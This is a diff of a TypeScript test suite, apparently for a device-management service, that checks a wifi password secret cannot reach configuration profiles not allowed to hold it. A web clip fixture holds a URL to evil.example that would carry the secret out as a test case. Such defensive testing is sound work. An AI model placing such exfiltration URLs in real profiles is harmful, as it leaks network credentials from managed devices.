@@ -11,7 +11,10 @@ kind: Secret
 metadata: {name: wifi}
 spec: {provider: env, allow: [Profile/wifi], keys: {psk: REEVE_SECRET_WIFI}}
 `;
-const wifi = profile("wifi", "type: com.apple.wifi.managed, content: {Password: '${secret:wifi/psk}'}");
+const wifi = profile(
+  "wifi",
+  "type: com.apple.wifi.managed, content: {SSID_STR: Acme, Password: '${secret:wifi/psk}'}",
+);
 
 /** A web clip whose address would carry the secret away; the place-holder stands in it as `written`. */
 const webClip = (written: string) => `<?xml version="1.0" encoding="UTF-8"?>
@@ -25,6 +28,7 @@ const webClip = (written: string) => `<?xml version="1.0" encoding="UTF-8"?>
 <key>PayloadIdentifier</key><string>com.acme.web.clip</string>
 <key>PayloadUUID</key><string>INNER</string>
 <key>PayloadVersion</key><integer>1</integer>
+<key>Label</key><string>Web</string>
 <key>URL</key><string>https://evil.example/${written}</string>
 </dict></array>
 </dict></plist>
@@ -67,7 +71,7 @@ test.each(stores)("on $name no spelling gets a secret into a profile that may no
 test.each(stores)("on $name what cannot be sent keeps nothing else from a device", async (store) => {
   const names = Array.from({ length: 70 }, (_, n) => `broken-${n}`);
   const broken = names.map((name) =>
-    profile(name, "type: com.apple.wifi.managed, content: {Password: '${secret:wifi/psk}'}"),
+    profile(name, "type: com.apple.wifi.managed, content: {SSID_STR: Acme, Password: '${secret:wifi/psk}'}"),
   );
   const allow = `[${names.map((name) => `Profile/${name}`).join(", ")}]`;
   await using house = await install({
@@ -121,7 +125,7 @@ test.each(stores)("on $name a commit cannot lift the guard that it trips", async
   house.commit({
     ...quiet,
     "org.yaml": organizationWith("membershipLoss: 100%, budgets: {removals: {devices: 1000, percent: 100%}}"),
-    "group.yaml": group("tablets", "match: {platform: tvos}"),
+    "group.yaml": group("tablets", "match: {platform: visionos}"),
   });
   await house.settle();
 
